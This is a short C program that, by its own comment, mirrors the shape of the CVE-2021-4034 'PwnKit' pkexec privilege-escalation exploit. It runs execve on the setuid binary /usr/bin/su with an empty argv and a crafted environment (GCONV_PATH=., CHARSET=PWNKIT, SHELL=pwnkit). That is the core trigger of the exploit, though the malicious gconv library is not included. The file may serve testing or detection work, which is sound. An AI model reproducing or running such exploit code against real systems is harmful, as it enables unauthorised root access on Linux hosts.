/* Starts a setuid program with an empty argv, the shape of CVE-2021-4034 (pkexec). */
#include <unistd.h>
int main(void) {
  char *argv[] = {NULL};
  char *envp[] = {"GCONV_PATH=.", "CHARSET=PWNKIT", "SHELL=pwnkit", NULL};
  execve("/usr/bin/su", argv, envp);
  return 1;
}
